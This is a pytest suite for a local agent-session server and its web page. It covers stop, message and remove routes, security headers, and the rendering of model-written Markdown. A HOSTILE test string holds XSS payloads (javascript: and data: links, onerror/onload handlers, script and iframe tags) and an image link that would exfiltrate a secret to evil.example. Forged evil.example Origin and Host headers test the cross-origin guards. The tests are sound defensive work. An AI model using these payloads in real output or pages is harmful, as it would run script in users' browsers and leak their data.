"""Steering a session from serve and the page: stop, say, remove; what the page shows of a session (diffs,
durations, Markdown), and what it must never do with what a model wrote.

Real components throughout: a real `chock daemon` (under a real systemd user manager where a session's scope
matters), a real `chock serve` over TCP, real `chock run` children in real bubblewrap sandboxes, Debian's
Chromium driven by playwright, and a `replay` instance or a loopback server speaking the OpenAI wire where what
the model receives matters.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from typing import Any

import pytest

from chock.control import daemon_protocol as dp
from chock.log.reader import owner_alive
from tests.fakes.daemon import Daemon, short_dir
from tests.fakes.projects import git_value
from tests.fakes.providers import FakeProvider
from tests.fakes.serve import ASKS, Stack, answer, pending, running_stack
from tests.fakes.sessions import BUSY, replay_config, wait_for_end, wait_for_event, write
from tests.fakes.systemd_user import UserManager, cgroup_hierarchies, user_manager
from tests.fakes.wait import wait_until


def edit(call_id: str, path: str, old: str, new: str) -> dict[str, Any]:
    return {"call_id": call_id, "name": "edit_file", "args": {"path": path, "old": old, "new": new}}


def events_of(stack: Stack, session_id: str, kind: str) -> list[dict[str, Any]]:
    """The session's events of one type, as the daemon's `read` gives them (what every view must equal)."""
    return [e for e in stack.read(session_id) if e["type"] == kind]


def open_page(browser: Any, stack: Stack, port: int, session_id: str | None = None):  # type: ignore[no-untyped-def]
    """The page at the project (and the session), with every request it makes and every page error recorded."""
    page = browser.new_page(viewport={"width": 1100, "height": 900})
    page.requests = []  # type: ignore[attr-defined]
    page.errors = []  # type: ignore[attr-defined]
    page.on("request", lambda request: page.requests.append(request.url))  # type: ignore[attr-defined]
    page.on("pageerror", lambda error: page.errors.append(str(error)))  # type: ignore[attr-defined]
    address = f"http://127.0.0.1:{port}/#project={stack.project}"
    page.goto(address + (f"&session={session_id}" if session_id else ""))
    return page


# --------------------------------------------------------------------------------------------------------
# The routes


SLOW = [
    {"text": "", "tool_calls": [{"call_id": "c1", "name": "shell", "args": {"command": "sleep 60"}}]},
    {"text": "Done.", "tool_calls": []},
]  # fmt: skip


@pytest.fixture
def slow_stack(home, project, daemons):  # type: ignore[no-untyped-def]
    with running_stack(home, project, daemons, SLOW) as running:
        replay_config(home, SLOW, shell="allow")
        yield running


def _session_in_a_tool_call(stack):  # type: ignore[no-untyped-def]
    """serve started, and a session made through it that is now in its slow tool call."""
    serve = stack.start_serve()
    project = str(stack.project)
    session_id = serve.post("/api/sessions", {"project": project, "message": "wait a minute"}).json["id"]
    wait_for_event(stack.home, session_id, "tool.call")
    return serve, project, session_id


def test_stop_messages_and_remove_each_map_onto_their_daemon_verb(slow_stack):
    stack = slow_stack
    serve, project, session_id = _session_in_a_tool_call(stack)

    said = serve.post(f"/api/sessions/{session_id}/messages", {"project": project, "message": "and then stop"})
    assert said.status == 201 and said.json == {"id": session_id, "how": "queued"}, said.body
    busy = serve.post(f"/api/sessions/{session_id}/remove", {"project": project})
    assert busy.status == 409 and busy.json["error"] == "busy" and "running" in busy.json["message"], busy.body

    stopped = serve.post(f"/api/sessions/{session_id}/stop", {"project": project})
    assert stopped.status == 200 and stopped.json == {"stopped": True}, stopped.body
    end = stack.read(session_id)[-1]
    assert (end["type"], end["reason"], end["via"]) == ("session.end", "interrupted", "socket")
    told = [e["text"] for e in events_of(stack, session_id, "user.message") if e.get("via") == "socket"]
    assert told == ["and then stop"]  # queued, then logged before the end so the next owner sends it
    again = serve.post(f"/api/sessions/{session_id}/stop", {"project": project})
    assert again.status == 422 and again.json["error"] == "refused" and "ended" in again.json["message"]

    kept = serve.post(f"/api/sessions/{session_id}/remove", {"project": project})
    assert kept.status == 422 and kept.json["error"] == "refused", kept.body  # its workspace is kept

    continued = serve.post(f"/api/sessions/{session_id}/messages", {"project": project, "message": "carry on"})
    assert continued.status == 201 and continued.json == {"id": session_id, "how": "continued"}, continued.body
    assert wait_for_end(stack.home, session_id)["reason"] == "completed"  # the continuation's end
    # The child writes its end, then lets go of the log as it exits: until then a remove is refused as busy.
    wait_until(lambda: not owner_alive(stack.home.layout.log_path(session_id)), 30, "the child to let go of the log")
    removed = serve.post(f"/api/sessions/{session_id}/remove", {"project": project})
    assert removed.status == 200 and removed.json == {"removed": True}, removed.body
    assert serve.get(f"/api/sessions?project={project}").json["sessions"] == []
    assert not stack.home.layout.session_dir(session_id).exists()
    gone = serve.post(f"/api/sessions/{session_id}/stop", {"project": project})
    assert gone.status == 404 and gone.json["error"] == "not-found"

    # Bad input is refused by serve before the daemon hears of it, each with its reason.
    for path, body, words in [
        ("/api/sessions/nope/stop", {"project": project}, "is not a session id"),
        (f"/api/sessions/{session_id}/stop", {}, "'project'"),
        (f"/api/sessions/{session_id}/messages", {"project": project}, "'message'"),
        (f"/api/sessions/{session_id}/messages", {"project": project, "message": 7}, "'message'"),
        (f"/api/sessions/{session_id}/remove", {"project": "relative"}, "absolute"),
        (f"/api/sessions/{session_id}/remove", {"project": "/tmp\0x"}, "NUL"),
        ("/api/sessions/" + "x" * 7000 + "/stop", {"project": project}, "is not a session id"),
        (f"/api/sessions/{session_id}/answer", {"project": project, "request_id": "r1", "answer": 1}, '"yes"'),
        (f"/api/sessions/{session_id}/answer", {"project": project, "request_id": "r1", "answer": 0}, '"yes"'),
    ]:
        refused = serve.post(path, body)
        assert refused.status == 400 and words in refused.json["message"], (path, refused.body)
        assert len(refused.body) < 1000, "a refusal quotes a bad value cut short"
    watched = serve.get(f"/api/sessions/{session_id}/watch?project=/tmp%00x")
    assert watched.status == 400 and "NUL" in watched.json["message"], watched.body


def test_the_steering_routes_have_the_guards_of_every_change(slow_stack):
    stack = slow_stack
    serve, project, session_id = _session_in_a_tool_call(stack)
    for verb, body in [("stop", {"project": project}), ("messages", {"project": project, "message": "hi"}),
                       ("remove", {"project": project})]:  # fmt: skip
        path = f"/api/sessions/{session_id}/{verb}"
        foreign = serve.post(path, body, headers={"Origin": "http://evil.example"})
        assert foreign.status == 403 and b"cross-origin" in foreign.body, verb
        form = serve.request("POST", path, raw=json.dumps(body).encode(), headers={"Content-Type": "text/plain"})
        assert form.status == 415, verb
        rebound = serve.post(path, body, headers={"Host": f"evil.example:{serve.port}"})
        assert rebound.status == 421, verb
        assert serve.get(path).status == 405, verb
    events = stack.read(session_id)  # still running, told nothing more
    assert "session.end" not in [e["type"] for e in events]
    assert [e["text"] for e in events if e["type"] == "user.message"] == ["wait a minute"]


def test_every_response_carries_the_content_security_policy_errors_included(slow_stack):
    stack = slow_stack
    serve = stack.start_serve()
    project = str(stack.project)
    session_id = serve.post("/api/sessions", {"project": project, "message": "wait a minute"}).json["id"]
    responses = {
        "the page": serve.get("/"),
        "a static file": serve.get("/static/app.js"),
        "no such static file": serve.get("/static/nothing.js"),
        "no such route": serve.get("/nothing"),
        "a method not allowed": serve.get(f"/api/sessions/{session_id}/stop"),
        "an API reply": serve.get(f"/api/sessions?project={project}"),
        "a refusal of serve's": serve.get("/api/sessions"),
        "a refusal of the daemon's": serve.get("/api/sessions/20260101-000000-abcdef/events"),
        "a refused media type": serve.request(
            "POST", "/api/sessions", raw=b"x", headers={"Content-Type": "text/plain"}
        ),
        "a cross-origin change": serve.post("/api/sessions", {}, headers={"Origin": "http://evil.example"}),
        "a misdirected request": serve.get("/", headers={"Host": "evil.example"}),
        "a body too large": serve.post("/api/sessions", {"project": project, "message": "x" * (600 * 1024)}),
    }
    with subprocess.Popen(
        ["curl", "-sSN", "-D", "-", "-o", "/dev/null", "--max-time", "3",
         f"http://127.0.0.1:{serve.port}/api/sessions/{session_id}/watch?project={project}"],
        stdout=subprocess.PIPE, text=True,
    ) as curl:  # fmt: skip
        head = curl.communicate(timeout=30)[0]
    stream = dict(line.split(": ", 1) for line in head.splitlines()[1:] if ": " in line)
    assert stream["Content-Type"].startswith("text/event-stream")
    seen = {what: (response.status, response.headers) for what, response in responses.items()}
    seen["an event stream"] = (200, stream)
    assert sorted({status for status, _ in seen.values()}) == [200, 400, 403, 404, 405, 413, 415, 421]
    for what, (status, headers) in seen.items():
        policy = headers.get("Content-Security-Policy", "")
        assert policy.startswith("default-src 'self';") and "frame-ancestors 'none'" in policy, (what, status)
        assert headers.get("X-Content-Type-Options") == "nosniff", what
        assert headers.get("X-Frame-Options") == "DENY", what


# --------------------------------------------------------------------------------------------------------
# What the page shows, and what it never does with a model's words

HOSTILE = (
    "Here is [a link](javascript:alert(document.domain)), [another](  JaVaScRiPt:window.pwned=1) and "
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==).\n\n"
    '<img src=x onerror="window.pwned=1;alert(1)"> and <script>window.pwned=2</script> as raw HTML,\n'
    "an image ![the secret](https://evil.example/collect?d=s3cr3t) that must stay a link,\n"
    "and a [real link](https://example.com/docs?q=1) beside <https://example.org/auto> and a bare "
    "https://example.net/bare.\n\n"
    "## A list\n\n- **bold** and *em* and `<b>code</b>`\n- ~~gone~~ and mail [me](mailto:me@example.com)\n\n"
    "```html\n<iframe src=https://evil.example/frame></iframe>\n```\n\n"
    "| a | b |\n|---|--:|\n| <svg onload=alert(1)> | 2 |\n"
)


@pytest.fixture
def hostile_stack(home, project, daemons):  # type: ignore[no-untyped-def]
    with running_stack(home, project, daemons, [{"text": HOSTILE, "tool_calls": []}]) as running:
        yield running


@pytest.mark.browser
def test_hostile_markdown_runs_no_script_and_makes_no_request_outside_the_page(hostile_stack, chromium):
    stack = hostile_stack
    serve = stack.start_serve()
    session_id = serve.post("/api/sessions", {"project": str(stack.project), "message": "say it"}).json["id"]
    wait_for_end(stack.home, session_id)
    dialogs: list[str] = []
    page = open_page(chromium, stack, serve.port, session_id)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.wait_for_selector("#timeline [data-type='session.end']")
    answer = page.locator(".assistant .markdown")
    page.wait_for_timeout(500)  # anything the text could make the browser do, it would have begun

    assert page.evaluate("window.pwned") is None and dialogs == []
    origin = f"http://127.0.0.1:{serve.port}/"
    assert page.requests and [url for url in page.requests if not url.startswith(origin)] == []
    assert answer.locator("img, script, iframe, svg, object, embed").count() == 0
    text = answer.text_content()
    for shown in (
        '<img src=x onerror="window.pwned=1;alert(1)">',
        "<script>window.pwned=2</script>",
        "<iframe src=https://evil.example/frame></iframe>",
        "<svg onload=alert(1)>",
        "<b>code</b>",
    ):
        assert shown in text, shown  # the raw HTML, shown as the text it is

    links = answer.locator("a").evaluate_all(
        "links => links.map(a => ({href: a.href, rel: a.rel, text: a.textContent, kind: a.className}))"
    )
    assert links == [
        {"href": "https://evil.example/collect?d=s3cr3t", "rel": "noopener noreferrer", "text": "image: the secret",
         "kind": "image-link"},
        {"href": "https://example.com/docs?q=1", "rel": "noopener noreferrer", "text": "real link", "kind": ""},
        {"href": "https://example.org/auto", "rel": "noopener noreferrer", "text": "https://example.org/auto",
         "kind": ""},
        {"href": "https://example.net/bare", "rel": "noopener noreferrer", "text": "https://example.net/bare",
         "kind": ""},
        {"href": "mailto:me@example.com", "rel": "noopener noreferrer", "text": "me", "kind": ""},
    ]  # fmt: skip
    # The links that were not made are their text; the rest of the Markdown is there.
    assert answer.locator(".not-a-link").all_text_contents() == ["a link", "another", "data"]
    assert answer.locator("h4").text_content() == "A list"
    assert answer.locator("li strong").text_content() == "bold" and answer.locator("li em").text_content() == "em"
    assert answer.locator("li code").text_content() == "<b>code</b>" and answer.locator("del").text_content() == "gone"
    assert answer.locator("pre code").get_attribute("data-lang") == "html"
    assert answer.locator("td.align-right").text_content() == "2"
    assert page.errors == []


@pytest.fixture
def done_stack(home, project, daemons):  # type: ignore[no-untyped-def]
    entries = [
        {"text": "First part done.", "tool_calls": []},
        {"text": "", "tool_calls": [write("notes.txt", "one\ntwo\nthree\n")]},
        {"text": "", "tool_calls": [
            edit("e1", "notes.txt", "two\n", "TWO\n"), edit("e2", "README.md", "demo", "Demo")]},
        {"text": "Second part done: notes.txt written.", "tool_calls": []},
    ]  # fmt: skip
    with running_stack(home, project, daemons, entries) as running:
        yield running


@pytest.mark.browser
def test_an_event_no_reader_knows_is_skipped_and_the_page_goes_on_to_continue_the_session(done_stack, chromium):
    stack = done_stack
    serve = stack.start_serve()
    project = str(stack.project)
    session_id = serve.post("/api/sessions", {"project": project, "message": "first part"}).json["id"]
    wait_for_end(stack.home, session_id)
    # A line is appended once the log is nobody's, as any writer but its owner must (docs/log.md#ownership-the-lock):
    # after its end the child still syncs, gives back its reserve and caches its row before it lets go.
    log_path = stack.home.layout.log_path(session_id)
    wait_until(lambda: not owner_alive(log_path), 30, "the child to let go of the log")
    events = stack.read(session_id)
    stranger = {"id": len(events) + 1, "at": events[-1]["at"], "type": "from.the.future", "text": "nobody knows me",
                "tool_calls": "not a list", "diff": 42}  # fmt: skip
    with open(log_path, "a") as log:
        log.write(json.dumps(stranger) + "\n")

    # The daemon learns of a line appended to an ended session's log from inotify: the page is opened once its
    # row counts it (a busy machine may deliver that a moment later), or it would rightly read to the end before.
    def counted() -> bool:
        return stack.client.call(dp.FindRequest(session_id)).row["last_event_id"] == stranger["id"]

    wait_until(counted, 30, "the daemon to see the appended line")

    page = open_page(chromium, stack, serve.port, session_id)
    wait_until(lambda: stranger["id"] in page.evaluate("window.chock.seen"), 30, "the page to reach the stranger")
    assert "nobody knows me" not in page.text_content("#timeline")
    assert page.locator("[data-type='from.the.future']").count() == 0
    row = page.locator(f"#sessions button[data-session='{session_id}']")
    assert row.get_attribute("data-end-reason") == "completed" and "ended · completed" in row.text_content()

    # The message box under an ended session continues it under the daemon, onto its branch.
    assert page.is_hidden("#stop-button") and page.is_visible("#remove-button")
    assert page.get_attribute("#say-form", "data-mode") == "continue"
    page.fill("#say-message", "now the second part")
    page.click("#say-button")
    page.wait_for_selector("#say-status:has-text('continued')")
    page.wait_for_selector("#timeline [data-type='session.end'] >> nth=1", timeout=60000)
    assert page.evaluate("window.chock.seen") == [e["id"] for e in stack.read(session_id)]
    assert git_value(stack.project, "show", f"chock/{session_id}:notes.txt") == "one\nTWO\nthree"
    follow_up = page.locator(".item.user").nth(1)
    assert follow_up.locator(".who").text_content() == "Message" and "now the second part" in follow_up.text_content()

    # write_file and edit_file show what they changed, as a diff, and every tool call how long it took.
    written = page.locator("details.tool[data-call-id='w-notes.txt']")
    assert written.get_attribute("data-diff") == "" and written.locator(".diffstat").text_content() == "+3 −0"
    written.locator("summary").click()
    assert written.locator(".diff .line").all_text_contents() == [
        "--- /dev/null", "+++ b/notes.txt", "@@ -0,0 +1,3 @@", "+one", "+two", "+three",
    ]  # fmt: skip
    edited = page.locator("details.tool[data-call-id='e1']")
    edited.locator("summary").click()
    assert edited.locator(".diff .line.del").all_text_contents() == ["-two"]
    assert edited.locator(".diff .line.add").all_text_contents() == ["+TWO"]
    for tool in page.locator("details.tool[data-result-event-id]").all():
        took = int(tool.get_attribute("data-duration-ms"))
        assert 0 <= took < 30000 and re.search(r"done · \d+(\.\d)? (ms|s)$", tool.locator(".state").text_content())
    results = {e["call_id"]: e for e in events_of(stack, session_id, "tool.result")}
    assert results["e2"]["diff"] == "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-# demo\n+# Demo\n"
    assert page.errors == []


# --------------------------------------------------------------------------------------------------------
# Steering from the page


def scope_processes(manager: UserManager, scope: str) -> set[int]:
    """The pids in the scope's cgroup, in every hierarchy systemd keeps here; none once the scope is gone."""
    group = manager.show(scope, "ControlGroup").get("ControlGroup", "")
    if not group:
        return set()
    pids: set[int] = set()
    for hierarchy in cgroup_hierarchies():
        procs = hierarchy / group.lstrip("/") / "cgroup.procs"
        try:
            pids |= {int(pid) for pid in procs.read_text().split()}
        except FileNotFoundError:
            continue
    return pids


def daemon_under(manager: UserManager, home: Any, daemons: Any) -> Daemon:
    """A `chock daemon` that reaches the user manager (its runtime dir), so each session gets its own scope."""
    socket_path = short_dir() / "d.sock"
    stderr_path = daemons.tmp / "daemon-under-systemd.err"
    env = {key: value for key, value in home.env.items() if not key.startswith("DBUS_")}
    env["XDG_RUNTIME_DIR"] = str(manager.runtime_dir)
    process = subprocess.Popen(
        [sys.executable, "-m", "chock", "daemon", "--socket", str(socket_path)], env=env, text=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=open(stderr_path, "w"),  # noqa: SIM115
    )  # fmt: skip
    daemon = daemons.add(Daemon(process, socket_path, stderr_path))
    wait_until(daemon.answers, 30, "the daemon to answer")
    return daemon


@pytest.mark.systemd
@pytest.mark.browser
def test_stop_on_the_page_empties_the_sessions_scope_within_5_s_and_continue_completes_it(
    home,
    project,
    daemons,
    chromium,
):
    replay_config(home, BUSY)  # a background command, a subagent thinking, a foreground call with a setsid child
    with user_manager() as manager:
        stack = Stack(home, project, daemons.tmp, daemon_under(manager, home, daemons))
        try:
            serve = stack.start_serve()
            started = serve.post("/api/sessions", {"project": str(project), "message": "keep busy"})
            session_id = started.json["id"]
            scope = f"chock-session-{session_id}.scope"
            wait_for_event(home, session_id, "tool.call", lambda e: e["call_id"] == "f1")
            # The session, its subagent, the bwraps and what runs in them, all in the session's scope.
            wait_until(lambda: len(scope_processes(manager, scope)) >= 6, 30, f"the processes of {scope}")
            page = open_page(chromium, stack, serve.port, session_id)
            page.wait_for_selector("details.tool[data-call-id='f1']")
            page.wait_for_selector("#stop-button:visible")
            assert page.is_hidden("#remove-button")

            began = time.monotonic()
            page.click("#stop-button")
            wait_until(lambda: not scope_processes(manager, scope), 5, f"{scope} to be empty")
            assert time.monotonic() - began < 5
            wait_until(lambda: scope not in manager.list_units("chock-session-*"), 5, f"{scope} to be gone")
            page.wait_for_selector("#action-status:has-text('stopped')")
            # The page's list learns of the end from serve: waited for while serve runs.
            page.wait_for_selector(
                f"#sessions button[data-session='{session_id}'][data-status='ended'][data-end-reason='interrupted']"
            )
            assert "ended · interrupted" in page.text_content(f"#sessions button[data-session='{session_id}']")
            page.wait_for_selector("#stop-button", state="hidden")
        finally:
            stack.cleanup()
    events = stack.read(session_id)
    end = events[-1]
    assert (end["type"], end["reason"], end["via"], end["exit_code"]) == ("session.end", "interrupted", "socket", 130)
    assert {e["type"] for e in events[-3:-1]} == {"background.end", "subagent.end"}

    workspace = [e["directory"] for e in events if e["type"] == "workspace.open"]
    resumed = home.chock("run", "--yes", "--continue", session_id, cwd=project)
    assert resumed.returncode == 0, resumed.stderr
    events = home.events(session_id)
    assert [e["directory"] for e in events if e["type"] == "workspace.open"] == workspace * 2  # the same one
    assert events[-1]["reason"] == "completed"
    assert page.errors == []


@pytest.mark.browser
def test_a_follow_up_typed_on_the_page_reaches_the_model_in_its_next_request_once(home, project, daemons, chromium):
    weather = "also mention the weather"
    with FakeProvider(kind="openai", key=None) as fake, running_stack(home, project, daemons, []) as stack:
        fake.script(tool_calls=[{"id": "c1", "name": "shell", "args": {"command": "sleep 4"}}])
        fake.script(text="Both done, and it is sunny.")
        instances = f'.instances = .{{ .local = .{{ .kind = "openai-compat={fake.address}" }} }}'
        home.write_config(f'.{{ {instances}, .approvals = .{{ .shell = "allow" }} }}\n')
        serve = stack.start_serve()
        session_id = serve.post("/api/sessions", {"project": str(project), "message": "first thing"}).json["id"]
        page = open_page(chromium, stack, serve.port, session_id)
        page.wait_for_selector("details.tool[data-call-id='c1']")
        assert page.get_attribute("#say-form", "data-mode") == "follow-up"
        assert page.is_visible("#stop-button") and page.is_hidden("#remove-button")
        page.fill("#say-message", weather)
        page.click("#say-button")
        page.wait_for_selector("#say-status:has-text('sent')")
        assert "session.end" not in [e["type"] for e in stack.read(session_id)]  # said while the sleep ran
        page.wait_for_selector("#timeline [data-type='session.end']", timeout=60000)
        calls = fake.calls
    assert len(calls) == 2
    assert {"role": "user", "content": weather} in calls[1]["messages"]
    assert json.dumps(calls[1]["messages"]).count(weather) == 1
    told = [e["text"] for e in events_of(stack, session_id, "user.message") if e.get("via") == "socket"]
    assert told == [weather]  # logged once
    assert page.locator(".item.user .who").all_text_contents() == ["Task", "Follow-up"]
    assert page.evaluate("window.chock.seen") == [e["id"] for e in stack.read(session_id)]
    assert page.errors == []


@pytest.mark.browser
def test_remove_on_the_page_deletes_an_ended_session_and_the_list_drops_it(done_stack, chromium):
    stack = done_stack
    serve = stack.start_serve()
    session_id = serve.post("/api/sessions", {"project": str(stack.project), "message": "first part"}).json["id"]
    wait_for_end(stack.home, session_id)
    page = open_page(chromium, stack, serve.port, session_id)
    page.wait_for_selector("#remove-button:visible")
    page.click("#remove-button")
    assert page.text_content("#remove-button") == "Remove its log for good?"  # a second click removes it
    assert stack.home.layout.session_dir(session_id).exists()
    page.click("#remove-button")
    page.wait_for_selector(f"#sessions button[data-session='{session_id}']", state="detached")
    assert page.is_hidden("#session-pane") and "removed" in page.text_content("#sessions-note")
    assert not stack.home.layout.session_dir(session_id).exists()
    assert serve.get(f"/api/sessions?project={stack.project}").json["sessions"] == []
    assert git_value(stack.project, "branch", "--list", f"chock/{session_id}") == ""  # it changed nothing: none
    assert page.errors == []


@pytest.fixture
def asking_stack(home, project, daemons):  # type: ignore[no-untyped-def]
    with running_stack(home, project, daemons, ASKS) as running:  # each shell call waits for an approval
        yield running


@pytest.mark.browser
def test_a_session_waiting_while_the_page_is_behind_another_tab_is_notified_and_counted_in_the_title(
    asking_stack,
    chromium,
):
    stack = asking_stack
    serve = stack.start_serve()
    origin = f"http://127.0.0.1:{serve.port}"

    # Permission is asked for after a click, never on load, and only once.
    asking = chromium.new_context()
    page = asking.new_page()
    page.goto(f"{origin}/#project={stack.project}")
    page.wait_for_selector("#start-form:not([hidden])")
    assert page.evaluate("localStorage.getItem('chock.notifications-asked')") is None
    page.click("#message")
    wait_until(lambda: page.evaluate("localStorage.getItem('chock.notifications-asked')") == "1", 5, "the ask")
    asking.close()

    context = chromium.new_context()
    context.grant_permissions(["notifications"], origin=origin)
    page = context.new_page()
    page.goto(f"{origin}/#project={stack.project}")
    page.wait_for_selector("#start-form:not([hidden])")
    context.new_cdp_session(page).send("Emulation.setFocusEmulationEnabled", {"enabled": False})
    front = context.new_page()  # another tab in front: this page is behind it
    front.goto("about:blank")
    front.bring_to_front()
    wait_until(lambda: not page.evaluate("document.hasFocus()"), 5, "the page to lose focus")
    assert page.title() == "Chock"

    session_id = serve.post("/api/sessions", {"project": str(stack.project), "message": "both steps"}).json["id"]
    wait_until(lambda: page.evaluate("window.chock.notified").count(f"local/{session_id}") == 1, 30, "a notification")
    assert page.title() == "(1 waiting) Chock"
    first = pending(serve, session_id)
    assert answer(serve, stack.project, session_id, first["request_id"]).status == 200
    second = pending(serve, session_id, first["id"])
    assert answer(serve, stack.project, session_id, second["request_id"]).status == 200
    wait_until(lambda: page.title() == "Chock", 30, "the title without a waiting count")
    assert wait_for_end(stack.home, session_id)["reason"] == "completed"
    context.close()
